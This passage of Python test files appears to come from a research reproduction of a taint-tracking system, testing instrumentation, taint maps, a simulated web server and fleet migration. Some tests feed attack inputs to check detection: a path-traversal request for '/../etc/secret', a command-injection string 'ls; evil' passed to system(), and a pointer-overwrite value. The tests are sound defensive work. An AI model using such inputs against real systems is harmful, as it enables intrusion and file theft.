        tmap = TaintMap(SparseMemory(), GRANULARITY_BYTE)
        tmap.set_range(addr(0), 2, True)
        tmap.set_range(addr(6), 2, True)
        assert list(tmap.tainted_spans(addr(0), 10)) == [(0, 2), (6, 2)]

    def test_span_reaching_end(self):
        tmap = TaintMap(SparseMemory(), GRANULARITY_BYTE)
        tmap.set_range(addr(8), 8, True)
        assert list(tmap.tainted_spans(addr(0), 16)) == [(8, 8)]


class TestCopyTaint:
    def test_wrap_function_summary(self, tmap):
        tmap.set_range(addr(0), 8, True)
        tmap.copy_taint(addr(64), addr(0), 16)
        assert tmap.any_tainted(addr(64), 8)
        assert tmap.taint_flags(addr(64), 16) == tmap.taint_flags(addr(0), 16)


class TestPropertyBased:
    @settings(max_examples=50, deadline=None)
    @given(
        ops=st.lists(
            st.tuples(
                st.integers(min_value=0, max_value=255),  # offset
                st.integers(min_value=1, max_value=40),  # length
                st.booleans(),
            ),
            max_size=12,
        )
    )
    def test_byte_level_matches_reference_model(self, ops):
        tmap = TaintMap(SparseMemory(), GRANULARITY_BYTE)
        reference = [False] * 512
        for offset, length, tainted in ops:
            tmap.set_range(addr(offset), length, tainted)
            for i in range(offset, min(offset + length, 512)):
                reference[i] = tainted
        assert tmap.taint_flags(addr(0), 512) == reference

    @settings(max_examples=50, deadline=None)
    @given(
        ops=st.lists(
            st.tuples(
                st.integers(min_value=0, max_value=31),  # word-aligned offset/8
                st.booleans(),
            ),
            max_size=12,
        )
    )
    def test_word_level_matches_reference_model(self, ops):
        tmap = TaintMap(SparseMemory(), GRANULARITY_WORD)
        reference = [False] * 32  # per-word flags
        for word, tainted in ops:
            tmap.set_range(addr(word * 8), 8, tainted)
            reference[word] = tainted
        for word in range(32):
            assert tmap.is_tainted(addr(word * 8)) == reference[word]
