"""Address-space and tag-translation tests (paper Fig. 4)."""

import pytest
from hypothesis import given, strategies as st

from repro.mem.address import (
    IMPL_BITS,
    IMPL_MASK,
    NUM_REGIONS,
    REGION_DATA,
    REGION_TAG,
    is_implemented,
    linearize,
    make_address,
    offset_of,
    region_of,
    tag_address,
    tag_space_limit,
)

addresses = st.builds(
    make_address,
    st.integers(min_value=0, max_value=NUM_REGIONS - 1),
    st.integers(min_value=0, max_value=IMPL_MASK),
)


class TestRegions:
    def test_region_roundtrip(self):
        addr = make_address(3, 0x1234)
        assert region_of(addr) == 3
        assert offset_of(addr) == 0x1234

    def test_region_zero(self):
        assert region_of(0x1000) == 0

    def test_make_address_rejects_bad_region(self):
        with pytest.raises(ValueError):
            make_address(8, 0)

    def test_make_address_rejects_unimplemented_offset(self):
        with pytest.raises(ValueError):
            make_address(0, 1 << IMPL_BITS)

    @given(addresses)
    def test_roundtrip_property(self, addr):
        assert make_address(region_of(addr), offset_of(addr)) == addr

    @given(addresses)
    def test_constructed_addresses_are_implemented(self, addr):
        assert is_implemented(addr)

    def test_unimplemented_bits_detected(self):
        bad = make_address(2, 0x100) | (1 << (IMPL_BITS + 2))
        assert not is_implemented(bad)


class TestLinearize:
    def test_moves_region_down(self):
        addr = make_address(2, 0x40)
        assert linearize(addr) == (2 << IMPL_BITS) | 0x40

    @given(addresses, addresses)
    def test_injective(self, a, b):
        if a != b:
            assert linearize(a) != linearize(b)

    @given(addresses)
    def test_fits_in_region_zero_space(self, addr):
        assert linearize(addr) < NUM_REGIONS << IMPL_BITS


class TestTagAddress:
    def test_byte_level_bit_per_byte(self):
        addr = make_address(REGION_DATA, 0x100)
        lin = linearize(addr)
        tag = tag_address(addr, 1)
        assert tag.byte_addr == lin >> 3
        assert tag.bit == lin & 7

    def test_word_level_byte_per_word(self):
        addr = make_address(REGION_DATA, 0x108)
        lin = linearize(addr)
        tag = tag_address(addr, 8)
        assert tag.byte_addr == lin >> 3
        assert tag.bit is None
        assert tag.mask == 0xFF

    def test_bytes_of_one_word_share_tag_byte(self):
        base = make_address(REGION_DATA, 0x200)
        tags = {tag_address(base + i, 8).byte_addr for i in range(8)}
        assert len(tags) == 1

    def test_adjacent_bytes_get_adjacent_bits(self):
        base = make_address(REGION_DATA, 0x200)
        t0 = tag_address(base, 1)
        t1 = tag_address(base + 1, 1)
        assert t0.byte_addr == t1.byte_addr
        assert t1.bit == t0.bit + 1

    def test_rejects_bad_granularity(self):
        with pytest.raises(ValueError):
            tag_address(0, 4)

    @given(addresses)
    def test_tag_lives_in_region_zero(self, addr):
        tag = tag_address(addr, 1)
        assert region_of(tag.byte_addr) == REGION_TAG
        assert tag.byte_addr < tag_space_limit(1)

    @given(addresses)
    def test_distinct_granules_distinct_tags(self, addr):
        # The next word's tag must differ from this word's.
        t0 = tag_address(addr, 8)
        t1 = tag_address((addr & ~0x7) + 8, 8) if offset_of(addr) + 8 <= IMPL_MASK else None
        if t1 is not None:
            assert t1.byte_addr != t0.byte_addr
