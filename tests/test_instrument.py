"""Instrumentation-pass tests: the Fig. 5 sequences and their variants."""

import pytest

from repro.compiler.codegen import FunctionCode
from repro.compiler.instrument import (
    GRANULARITY_BYTE,
    GRANULARITY_WORD,
    INVALID_ADDR,
    ShiftOptions,
    UNINSTRUMENTED,
    instrument_function,
)
from repro.isa import parse_instruction
from repro.isa.instruction import (
    Instruction,
    Label,
    ROLE_NATGEN,
    ROLE_RELAX,
    ROLE_TAG_COMPUTE,
    ROLE_TAG_MEM,
    ROLE_TAINT_SET,
)

BYTE = ShiftOptions(granularity=GRANULARITY_BYTE)
WORD = ShiftOptions(granularity=GRANULARITY_WORD)


def instrument(lines, options=BYTE):
    items = [parse_instruction(line) for line in lines]
    out = instrument_function(FunctionCode(name="t", items=items), options)
    return out.items


def instructions_of(items):
    return [i for i in items if isinstance(i, Instruction)]


def ops_of(items):
    return [i.op for i in instructions_of(items)]


class TestNatGeneration:
    def test_natgen_prologue_present(self):
        items = instrument(["nop"])
        ops = ops_of(items)
        assert ops[0] == "movl" and ops[1] == "ld8.s"
        assert instructions_of(items)[0].imm == INVALID_ADDR
        assert instructions_of(items)[0].role == ROLE_NATGEN

    def test_enhancement_removes_natgen(self):
        items = instrument(["nop"], ShiftOptions(granularity=1, enh_set_clear=True))
        assert all(i.role != ROLE_NATGEN for i in instructions_of(items))

    def test_uninstrumented_passthrough(self):
        items = instrument(["ld8 r14 = [r15]"], UNINSTRUMENTED)
        assert ops_of(items) == ["ld8"]


class TestLoadInstrumentation:
    def test_byte_level_sequence(self):
        items = instrument(["ld8 r14 = [r15]"])
        ops = ops_of(items)
        # natgen(2) + linearise(5) + original + tag ld2 + mask build + test + set
        assert "ld2" in ops  # 16-bit bitmap window
        assert ops.count("ld8") == 1  # the original
        roles = [i.role for i in instructions_of(items)]
        assert ROLE_TAG_COMPUTE in roles
        assert ROLE_TAG_MEM in roles
        assert ROLE_TAINT_SET in roles

    def test_word_level_uses_single_tag_byte(self):
        items = instrument(["ld8 r14 = [r15]"], WORD)
        ops = ops_of(items)
        assert "ld1" in ops and "ld2" not in ops

    def test_byte_sequence_longer_than_word(self):
        byte_len = len(instructions_of(instrument(["ld4 r14 = [r15]"], BYTE)))
        word_len = len(instructions_of(instrument(["ld4 r14 = [r15]"], WORD)))
        assert byte_len > word_len

    def test_taint_set_is_predicated_add_of_nat_source(self):
        items = instrument(["ld8 r14 = [r15]"])
        sets = [i for i in instructions_of(items) if i.role == ROLE_TAINT_SET]
        assert len(sets) == 1
        assert sets[0].op == "add"
        assert sets[0].qp == 8
        assert any(r.index == 31 for r in sets[0].ins)

    def test_enhanced_taint_set_uses_settag(self):
        items = instrument(["ld8 r14 = [r15]"],
                           ShiftOptions(granularity=1, enh_set_clear=True))
        sets = [i for i in instructions_of(items) if i.role == ROLE_TAINT_SET]
        assert sets[0].op == "settag"

    def test_original_load_keeps_user_role(self):
        items = instrument(["ld8 r14 = [r15]"])
        original = [i for i in instructions_of(items) if i.op == "ld8"]
        assert original[0].role is None

    def test_speculative_and_fill_loads_not_instrumented(self):
        items = instrument(["ld8.s r14 = [r15]", "ld8.fill r14 = [r15]"])
        ops = [op for op in ops_of(items) if op not in ("movl", "ld8.s")]
        # only natgen inserted; the two loads pass through
        assert "ld8.fill" in ops
        assert "cmp.ne" not in ops_of(items)


class TestStoreInstrumentation:
    def test_st8_becomes_spill(self):
        items = instrument(["st8 [r15] = r14"])
        ops = ops_of(items)
        assert "st8.spill" in ops
        assert "st8" not in ops

    def test_byte_level_rmw(self):
        ops = ops_of(instrument(["st8 [r15] = r14"], BYTE))
        assert "ld2" in ops and "st2" in ops  # read-modify-write
        assert "andcm" in ops  # the clear path

    def test_word_level_direct_write(self):
        ops = ops_of(instrument(["st8 [r15] = r14"], WORD))
        assert "st1" in ops and "ld1" not in ops  # no RMW needed

    def test_subword_store_has_laundering_slow_path(self):
        items = instrument(["st1 [r15] = r14"])
        labels = [i.name for i in items if isinstance(i, Label)]
        assert any("slow" in name for name in labels)
        assert "st8.spill" in ops_of(items)  # the launder spill

    def test_subword_store_enhanced_uses_cleartag(self):
        items = instrument(["st1 [r15] = r14"],
                           ShiftOptions(granularity=1, enh_set_clear=True))
        ops = ops_of(items)
        assert "cleartag" in ops
        assert not [i for i in items if isinstance(i, Label)]  # branch-free

    def test_tnat_guards_bitmap_update(self):
        items = instrument(["st8 [r15] = r14"])
        tnat = [i for i in instructions_of(items) if i.op == "tnat"]
        assert tnat and tnat[0].ins[0].index == 14


class TestCompareRelaxation:
    def test_relax_wraps_compare(self):
        items = instrument(["cmp.eq p6, p7 = r14, r15"])
        ops = ops_of(items)
        assert ops.count("tnat") == 2  # both operands checked
        assert ops.count("cmp.eq") == 2  # fast path + laundered slow path
        assert "st8.spill" in ops  # NaT-clearing spill

    def test_single_operand_compare(self):
        items = instrument(["cmp.lt p6, p7 = r14, 5"])
        assert ops_of(items).count("tnat") == 1

    def test_compare_against_r0_only_not_relaxed(self):
        items = instrument(["cmp.eq p6, p7 = r0, r0"])
        assert "tnat" not in ops_of(items)

    def test_nat_aware_compare_enhancement(self):
        items = instrument(["cmp.eq p6, p7 = r14, r15"],
                           ShiftOptions(granularity=1, enh_nat_cmp=True))
        ops = [op for op in ops_of(items) if op not in ("movl", "ld8.s")]
        assert ops == ["tcmp.eq"]

    def test_set_clear_enhancement_branch_free_relax(self):
        items = instrument(["cmp.eq p6, p7 = r14, r15"],
                           ShiftOptions(granularity=1, enh_set_clear=True))
        ops = ops_of(items)
        assert "cleartag" in ops
        assert "br.cond" not in ops

    def test_relax_disabled_by_option(self):
        items = instrument(["cmp.eq p6, p7 = r14, r15"],
                           ShiftOptions(granularity=1, relax_compares=False))
        assert "tnat" not in ops_of(items)

    def test_instrumentation_compares_not_relaxed(self):
        # The cmp.ne inserted for a load must not itself be relaxed.
        items = instrument(["ld8 r14 = [r15]"])
        relax = [i for i in instructions_of(items) if i.role == ROLE_RELAX]
        assert not relax


class TestZeroingIdioms:
    def test_xor_self_purified(self):
        items = instrument(["xor r14 = r14, r14"])
        ops = [op for op in ops_of(items) if op not in ("movl", "ld8.s")]
        assert ops == ["mov"]

    def test_sub_self_purified(self):
        items = instrument(["sub r20 = r20, r20"])
        assert "sub" not in ops_of(items)

    def test_regular_xor_untouched(self):
        items = instrument(["xor r14 = r14, r15"])
        assert "xor" in ops_of(items)


class TestPointerPolicy:
    def test_permissive_adds_guard(self):
        opts = ShiftOptions(granularity=1, pointer_policy="permissive")
        items = instrument(["ld8 r14 = [r15]"], opts)
        ops = ops_of(items)
        assert "tnat" in ops
        assert "br.cond" in ops
        labels = [i.name for i in items if isinstance(i, Label)]
        assert any("afix" in name for name in labels)

    def test_permissive_fix_block_out_of_line(self):
        opts = ShiftOptions(granularity=1, pointer_policy="permissive")
        items = instrument(["ld8 r14 = [r15]", "nop"], opts)
        # The fix block must come after all mainline code.
        mainline_end = max(i for i, item in enumerate(items)
                           if isinstance(item, Instruction) and item.op == "nop")
        fix_start = next(i for i, item in enumerate(items)
                         if isinstance(item, Label) and "afix" in item.name)
        assert fix_start > mainline_end

    def test_strict_has_no_guard(self):
        items = instrument(["ld8 r14 = [r15]"], BYTE)
        assert "br.cond" not in ops_of(items)

    def test_sp_relative_access_never_guarded(self):
        opts = ShiftOptions(granularity=1, pointer_policy="permissive")
        items = instrument(["ld8 r14 = [r12]"], opts)
        assert "br.cond" not in ops_of(items)

    def test_bad_policy_rejected(self):
        with pytest.raises(ValueError):
            ShiftOptions(pointer_policy="lenient")


class TestOptionLabels:
    def test_labels(self):
        assert UNINSTRUMENTED.label == "baseline"
        assert BYTE.label == "shift-byte"
        assert WORD.label == "shift-word"
        assert ShiftOptions(granularity=1, enh_set_clear=True).label == "shift-byte-set/clear"
        assert ShiftOptions(granularity=8, enh_set_clear=True,
                            enh_nat_cmp=True).label == "shift-word-both"
        assert ShiftOptions(mode="lift").label == "lift"

    def test_invalid_mode_rejected(self):
        with pytest.raises(ValueError):
            ShiftOptions(mode="magic")

    def test_invalid_granularity_rejected(self):
        with pytest.raises(ValueError):
            ShiftOptions(granularity=4)
