"""Web-server app tests (the Figure 6 workload)."""

import pytest

from repro.apps.webserver import WEBSERVER_SOURCE, make_request, make_site
from repro.core.shift import build_machine
from repro.harness.runners import (
    PERF_OPTIONS,
    compiled_webserver,
    run_webserver,
    webserver_policy,
)
from repro.taint.engine import SecurityAlert


def serve(requests, options=PERF_OPTIONS["none"], files=None, policy=None):
    machine = build_machine(
        compiled_webserver(options),
        policy_config=policy or webserver_policy(),
        files=files or make_site((4,)),
    )
    for request in requests:
        machine.net.add_request(request)
    served = machine.run(max_instructions=200_000_000)
    return machine, served


class TestServing:
    def test_serves_file_with_200(self):
        machine, served = serve([make_request(4)])
        assert served == 1
        response = bytes(machine.net.completed[0].outbound)
        assert response.startswith(b"HTTP/1.0 200 OK")
        assert len(response) > 4096

    def test_body_matches_file(self):
        files = make_site((4,))
        machine, _ = serve([make_request(4)], files=files)
        response = bytes(machine.net.completed[0].outbound)
        body = response.split(b"\r\n\r\n", 1)[1]
        assert body == files["/www/file4k.bin"]

    def test_missing_file_404(self):
        machine, served = serve([b"GET /nope.bin HTTP/1.0\r\n\r\n"])
        assert served == 0
        assert b"404" in bytes(machine.net.completed[0].outbound)

    def test_bad_method_400(self):
        machine, _ = serve([b"POST /x HTTP/1.0\r\n\r\n"])
        assert b"400" in bytes(machine.net.completed[0].outbound)

    def test_multiple_requests(self):
        machine, served = serve([make_request(4)] * 5)
        assert served == 5

    def test_instrumented_server_same_behaviour(self):
        base, _ = serve([make_request(4)])
        inst, served = serve([make_request(4)], PERF_OPTIONS["byte"])
        assert served == 1
        assert bytes(inst.net.completed[0].outbound) == \
            bytes(base.net.completed[0].outbound)


class TestProtection:
    def test_traversal_attack_detected(self):
        files = dict(make_site((4,)))
        files["/etc/secret"] = b"topsecret"
        machine = build_machine(
            compiled_webserver(PERF_OPTIONS["byte"]),
            policy_config=webserver_policy(),
            files=files,
        )
        machine.net.add_request(b"GET /../etc/secret HTTP/1.0\r\n\r\n")
        with pytest.raises(SecurityAlert) as excinfo:
            machine.run()
        assert excinfo.value.policy_id == "H2"

    def test_benign_requests_raise_nothing(self):
        machine, served = serve([make_request(4)] * 3, PERF_OPTIONS["byte"])
        assert served == 3
        assert not machine.alerts


class TestOverheadShape:
    def test_overhead_is_small(self):
        base = run_webserver(PERF_OPTIONS["none"], 4, requests=6)
        byte = run_webserver(PERF_OPTIONS["byte"], 4, requests=6)
        ratio = byte.total_cycles / base.total_cycles
        assert 1.0 <= ratio < 1.10, f"server overhead should be tiny, got {ratio:.3f}"

    def test_larger_files_have_lower_overhead(self):
        def overhead(kb):
            base = run_webserver(PERF_OPTIONS["none"], kb, requests=4)
            byte = run_webserver(PERF_OPTIONS["byte"], kb, requests=4)
            return byte.total_cycles / base.total_cycles
        assert overhead(64) <= overhead(4)

    def test_io_dominates(self):
        run = run_webserver(PERF_OPTIONS["none"], 16, requests=4)
        assert run.io_cycles > 0.8 * run.total_cycles
