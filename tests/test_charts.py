"""ASCII chart rendering tests."""

from repro.harness.charts import bar_chart, figure7_chart, figure8_chart, figure9_chart
from repro.harness.figure7 import Figure7Result, Figure7Row
from repro.harness.figure8 import Figure8Result, Figure8Row
from repro.harness.figure9 import Figure9Result, Figure9Row


class TestBarChart:
    def test_basic_rendering(self):
        text = bar_chart([("alpha", {"a": 2.0, "b": 1.0})], title="T", unit="X")
        assert "T" in text
        assert "2.00X" in text and "1.00X" in text
        assert "alpha" in text

    def test_bars_scale_with_values(self):
        text = bar_chart([("g", {"a": 4.0}), ("h", {"a": 1.0})], width=40)
        lines = [l for l in text.splitlines() if "|" in l]
        long_bar = lines[0].split("|")[1].split()[0]
        short_bar = lines[1].split("|")[1].split()[0]
        assert len(long_bar) > 3 * len(short_bar)

    def test_series_glyphs_differ(self):
        text = bar_chart([("g", {"a": 1.0, "b": 1.0})])
        bars = [l.split("|")[1][0] for l in text.splitlines() if "|" in l]
        assert bars[0] != bars[1]

    def test_baseline_tick(self):
        text = bar_chart([("g", {"a": 2.0})], baseline=1.0)
        assert "^ 1X" in text

    def test_empty_groups(self):
        assert bar_chart([]) .strip() != None  # no crash


class TestFigureCharts:
    def test_figure7_chart(self):
        result = Figure7Result(rows=[
            Figure7Row("gzip", 2.5, 2.0, 2.2, 1.9),
            Figure7Row("mcf", 1.4, 1.3, 1.35, 1.25),
        ], scale="test")
        text = figure7_chart(result)
        assert "gzip" in text and "mcf" in text
        assert "2.50X" in text

    def test_figure8_chart(self):
        result = Figure8Result(rows=[
            Figure8Row("gzip", "byte", 2.5, 2.3, 1.8),
            Figure8Row("gzip", "word", 2.2, 2.1, 1.6),
        ], scale="test")
        text = figure8_chart(result, "byte")
        assert "+both" in text
        assert "1.80X" in text
        assert "1.60X" not in text  # word row excluded

    def test_figure9_chart(self):
        result = Figure9Result(rows=[
            Figure9Row("gzip", "byte", 0.6, 0.05, 0.1, 0.01, 0.5),
        ], scale="test")
        text = figure9_chart(result, "byte")
        assert "ld compute" in text
        assert "0.60x base" in text
