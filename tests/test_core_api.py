"""Public API tests (repro.core)."""

import pytest

from repro.core import (
    ALL_ENHANCEMENTS,
    ENHANCEMENT_NAT_CMP,
    ENHANCEMENT_SET_CLEAR,
    RunResult,
    build_machine,
    compile_protected,
    run_machine,
    shift_options,
)
from repro.taint.policy import PolicyConfig, parse_policy_config


class TestShiftOptions:
    def test_defaults(self):
        options = shift_options()
        assert options.mode == "shift"
        assert options.granularity == 1

    def test_word_granularity(self):
        assert shift_options("word").granularity == 8

    def test_tracking_off(self):
        assert shift_options(tracking=False).mode == "none"

    def test_enhancements(self):
        options = shift_options(enhancements=ALL_ENHANCEMENTS)
        assert options.enh_set_clear and options.enh_nat_cmp
        only_cmp = shift_options(enhancements=[ENHANCEMENT_NAT_CMP])
        assert only_cmp.enh_nat_cmp and not only_cmp.enh_set_clear

    def test_unknown_enhancement_rejected(self):
        with pytest.raises(ValueError, match="unknown enhancement"):
            shift_options(enhancements=["magic"])

    def test_unknown_granularity_rejected(self):
        with pytest.raises(ValueError, match="granularity"):
            shift_options("nibble")


class TestCompileProtected:
    def test_includes_libc_by_default(self):
        compiled = compile_protected("int main() { return strlen(\"abc\"); }")
        assert "strlen" in compiled.function_sizes

    def test_without_libc(self):
        compiled = compile_protected("int main() { return 1; }", include_libc=False)
        assert "strlen" not in compiled.function_sizes

    def test_instrumented_code_is_larger(self):
        source = "int g; int main() { g = 7; return g; }"
        base = compile_protected(source, shift_options(tracking=False))
        inst = compile_protected(source, shift_options())
        assert inst.total_instructions > base.total_instructions


class TestRunMachine:
    def test_successful_run(self):
        machine = build_machine("int main() { puts(\"hi\"); return 3; }")
        result = run_machine(machine)
        assert result.exit_code == 3
        assert result.console == "hi\n"
        assert not result.detected
        assert result.cycles > 0

    def test_detection_folded_into_result(self):
        source = """
        native int read(int fd, char *buf, int n);
        char src[16];
        int main() {
            read(0, src, 8);
            int *p = (int *)atoi(src);
            *p = 1;
            return 0;
        }
        """
        machine = build_machine(source, shift_options(), stdin=b"4611686018427387904")
        result = run_machine(machine)
        assert result.detected
        assert result.alerts[0].policy_id == "L2"
        assert result.exit_code is None

    def test_policy_config_from_text(self):
        config = parse_policy_config("""
        [sources]
        stdin = tainted
        [policies]
        H4 = on
        """)
        source = """
        native int read(int fd, char *buf, int n);
        native int system(char *c);
        char src[32];
        int main() {
            read(0, src, 16);
            return system(src);
        }
        """
        machine = build_machine(source, shift_options(), policy_config=config,
                                stdin=b"ls; evil")
        result = run_machine(machine)
        assert result.detected
        assert result.alerts[0].policy_id == "H4"

    def test_runresult_fields(self):
        machine = build_machine("int main() { return 0; }")
        result = run_machine(machine)
        assert isinstance(result, RunResult)
        assert result.fault is None
        assert result.counters.instructions > 0
