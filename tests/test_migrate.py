"""Live worker migration: wire-blob integrity, mid-session moves with
live taint and pending queues, and drain-via-migration in the serving
simulator."""

import pytest

from repro.apps.webserver import make_request, overflow_request
from repro.compiler.instrument import ShiftOptions
from repro.fleet import FleetConfig, migrate_worker
from repro.fleet.driver import build_worker
from repro.resil.migrate import (
    MAGIC,
    MigrationError,
    pack_worker,
    program_fingerprint,
    rehydrate_worker,
    unpack_blob,
)
from repro.serve import (
    AutoscalerConfig,
    LoadConfig,
    LoadPhase,
    ServeSim,
    generate,
)
from tests.test_resil import _machine_state
from tests.test_serve import StubModel

ENGINES = ("reference", "predecoded")


def _config(engine="predecoded"):
    return FleetConfig(
        variant="resil", options=ShiftOptions(granularity=1),
        engine=engine, engine_mode="recover",
        recover_watchdog=2_000_000)


def _source(engine, requests, worker_id="src"):
    machine = build_worker(_config(engine), worker_id)
    for payload in requests:
        machine.net.add_request(payload)
    return machine


def _mix(clean=6, attack_at=None):
    requests = [make_request(4) for _ in range(clean)]
    if attack_at is not None:
        requests.insert(attack_at, overflow_request())
    return requests


class TestWireBlob:
    def test_roundtrip_payload_is_self_describing(self):
        machine = _source("predecoded", _mix(2))
        blob = pack_worker(machine)
        payload = unpack_blob(blob)
        assert payload["version"] == 1
        assert payload["fingerprint"] == program_fingerprint(machine)
        assert payload["granularity"] == 1
        assert payload["chain"][-1].pending_requests == 2

    def test_bad_magic_is_rejected(self):
        machine = _source("predecoded", _mix(1))
        blob = pack_worker(machine)
        with pytest.raises(MigrationError, match="magic"):
            unpack_blob(b"NOTMAGIC" + blob[len(MAGIC):])

    def test_corrupted_body_fails_the_integrity_check(self):
        machine = _source("predecoded", _mix(1))
        blob = bytearray(pack_worker(machine))
        blob[-1] ^= 0xFF
        with pytest.raises(MigrationError, match="integrity"):
            unpack_blob(bytes(blob))

    def test_rehydrate_refuses_a_different_program(self):
        machine = _source("predecoded", _mix(1))
        blob = pack_worker(machine)
        other = build_worker(
            FleetConfig(variant="standard",
                        options=ShiftOptions(granularity=1),
                        engine="predecoded", engine_mode="recover",
                        recover_watchdog=2_000_000),
            "other")
        with pytest.raises(MigrationError, match="different program"):
            rehydrate_worker(blob, other)


class TestLiveMigration:
    @pytest.mark.parametrize("engine", ENGINES)
    def test_current_state_move_is_state_identical(self, engine):
        """Pack a worker mid-session — live taint in the bitmap, device
        queue pending — and rehydrate a twin: bit-identical state, and
        both finish the session in lockstep."""
        source = _source(engine, _mix(6))
        while (source.taint_map.live_granules == 0
               or not source.net.pending) and not source.cpu.halted:
            source.cpu.run_slice(2_000)
        assert source.taint_map.live_granules > 0
        assert source.net.pending

        blob, target = migrate_worker(_config(engine), source, "tgt")
        assert _machine_state(target) == _machine_state(source)
        assert target.taint_map.live_granules == source.taint_map.live_granules
        assert ([bytes(c.inbound) for c in target.net.pending]
                == [bytes(c.inbound) for c in source.net.pending])

        source.run()
        target.run()
        assert _machine_state(target) == _machine_state(source)
        assert bytes(target.console.out) == bytes(source.console.out)

    @pytest.mark.parametrize("engine", ENGINES)
    def test_mid_stream_move_replays_digest_identical(self, engine):
        """Migrate "just before request 3" out of a finished source run;
        the target re-executes the tail — including the attack — and
        produces byte-identical responses and the same quarantine."""
        config = _config(engine)
        source = _source(engine, _mix(6, attack_at=4))
        source.run()
        src_responses = [bytes(c.outbound) for c in source.net.completed]
        assert len(source.net.quarantined) == 1

        blob, target = migrate_worker(config, source, "tgt", at_request=3)
        assert len(target.net.pending) == 5  # requests 3..7 re-execute
        target.run()
        assert ([bytes(c.outbound) for c in target.net.completed]
                == src_responses)
        assert len(target.net.quarantined) == 1
        assert len(target.resil.incidents) == 1
        # The adopted chain keeps extending as deltas on the target.
        assert target.resil.delta_captures > 0

    def test_quarantine_evidence_survives_the_move(self):
        """Migrating *after* an incident carries the survivor set and
        the forensic record; the target does not re-quarantine."""
        source = _source("predecoded", _mix(6, attack_at=2))
        source.run()
        assert len(source.net.quarantined) == 1
        assert len(source.resil.incidents) == 1

        blob, target = migrate_worker(
            _config("predecoded"), source, "tgt", at_request=5)
        assert len(target.net.quarantined) == 1
        assert len(target.resil.incidents) == 1
        target.run()
        assert len(target.net.quarantined) == 1
        assert ([bytes(c.outbound) for c in target.net.completed]
                == [bytes(c.outbound) for c in source.net.completed])

    def test_at_request_needs_a_matching_chain_checkpoint(self):
        source = _source("predecoded", _mix(2))
        source.run()
        with pytest.raises(ValueError, match="no chain checkpoint"):
            migrate_worker(_config("predecoded"), source, "tgt",
                           at_request=99)


def _drain_heavy_load(offered=20_000.0, duration=20_000.0):
    # Arrivals every ~50 cycles against 20k-cycle service: both workers
    # are deep in queue by the controller's first tick, so the drain
    # victim always has work to ship in the migration blob.
    return LoadConfig(seed=11, phases=[LoadPhase(duration, offered)])


def _always_drain():
    # low_water far above any realistic depth: the controller drains at
    # every eligible tick, down to min_workers.
    return AutoscalerConfig(min_workers=1, max_workers=2,
                            high_water=1000.0, low_water=999.0,
                            interval=2_000.0, cooldown_ticks=0)


class TestServeDrainMigration:
    def _run(self, migrate):
        return ServeSim(
            workers=2, seed=3, service_model=StubModel(cycles=20_000.0),
            autoscaler=_always_drain(), migrate_on_drain=migrate,
            migration_cycles=5_000.0,
        ).run(generate(_drain_heavy_load()))

    def test_busy_queue_drain_ships_requests_in_the_blob(self):
        result = self._run(migrate=True)
        migrates = [e for e in result.scale_events
                    if e["action"] == "migrate"]
        assert migrates, "the controller never drained via migration"
        assert result.migrated > 0, "victim queue should have shipped"
        assert result.dropped == 0
        assert any(r.migrated for r in result.records)
        # Migration retires the victim immediately at its next request
        # boundary; plain drain would have served its queue out first.
        for event in migrates:
            retired_at = result.workers[event["worker"]].retired_at
            assert retired_at is not None

    def test_migration_loses_no_work_vs_plain_drain(self):
        plain = self._run(migrate=False)
        moved = self._run(migrate=True)
        assert moved.served == plain.served
        assert moved.quarantined == plain.quarantined
        assert moved.dropped == plain.dropped == 0
        assert plain.migrated == 0

    def test_drain_migration_is_deterministic(self):
        first = self._run(migrate=True)
        second = self._run(migrate=True)
        assert first.digest() == second.digest()
        assert first.migrated == second.migrated > 0
