"""Fleet subsystem: routing, backpressure, drivers, and the two tiers."""

import pytest

from repro.apps.webserver import make_request, traversal_request
from repro.fleet import (
    FleetConfig,
    FleetDriver,
    FleetFrontend,
    TaggedMessage,
    incident_report,
    render_incidents,
    two_tier_experiment,
)
from repro.harness.runners import build_web_machine
from repro.runtime.devices import SimNetwork


class TestFrontendRouting:
    def test_round_robin_rotates(self):
        fe = FleetFrontend(["a", "b", "c"])
        placed = [fe.submit(bytes([i])) for i in range(6)]
        assert placed == ["a", "b", "c", "a", "b", "c"]

    def test_least_loaded_prefers_short_queue(self):
        fe = FleetFrontend(["a", "b"], policy="least_loaded")
        fe.slots["a"].queue.extend([b"x", b"y"])
        assert fe.submit(b"r1") == "b"
        assert fe.submit(b"r2") == "b"  # still shorter (1 vs 2)
        assert fe.submit(b"r3") == "a"  # tie broken by worker order

    def test_hash_is_sticky_per_payload(self):
        fe = FleetFrontend(["a", "b", "c", "d"], policy="hash", seed=3)
        targets = {fe.submit(b"GET /same HTTP/1.0\r\n\r\n")
                   for _ in range(5)}
        assert len(targets) == 1

    def test_hash_eject_only_remaps_victims(self):
        requests = [f"GET /{i} HTTP/1.0\r\n\r\n".encode() for i in range(40)]
        fe = FleetFrontend(["a", "b", "c"], policy="hash", seed=1)
        before = {bytes(r): fe.submit(r) for r in requests}
        victim = before[bytes(requests[0])]
        fe2 = FleetFrontend(["a", "b", "c"], policy="hash", seed=1)
        fe2.eject(victim)
        for r in requests:
            after = fe2.submit(r)
            if before[bytes(r)] != victim:
                assert after == before[bytes(r)]
            else:
                assert after != victim

    def test_seed_changes_hash_placement(self):
        requests = [f"GET /{i} HTTP/1.0\r\n\r\n".encode() for i in range(30)]
        place = lambda seed: [
            FleetFrontend(["a", "b", "c"], policy="hash",
                          seed=seed).submit(r) for r in requests]
        assert place(1) == place(1)
        assert place(1) != place(2)

    def test_bounded_queues_spill_then_drop(self):
        fe = FleetFrontend(["a", "b"], queue_capacity=1)
        assert fe.submit(b"r1") == "a"
        assert fe.submit(b"r2") == "b"  # round-robin lands it on b anyway
        assert fe.submit(b"r3") is None  # both full
        assert fe.dropped == 1
        fe2 = FleetFrontend(["a", "b"], policy="least_loaded",
                            queue_capacity=2)
        fe2.slots["a"].queue.extend([b"x", b"y"])  # a is full
        fe2.slots["b"].queue.append(b"z")
        assert fe2.submit(b"r") == "b"
        assert fe2.spilled == 0  # b was first choice (shorter queue)

    def test_spill_counts_non_first_choice(self):
        fe = FleetFrontend(["a", "b"], queue_capacity=1)
        fe.slots["a"].queue.append(b"x")
        assert fe.submit(b"r") == "b"  # round-robin wanted a
        assert fe.spilled == 1

    def test_eject_returns_orphans(self):
        fe = FleetFrontend(["a", "b"])
        fe.submit(b"r1")
        fe.submit(b"r2")
        orphans = fe.eject("a", "it died")
        assert orphans == [b"r1"]
        assert fe.healthy_count == 1
        assert all(fe.submit(b"x") == "b" for _ in range(3))

    def test_rejects_bad_configuration(self):
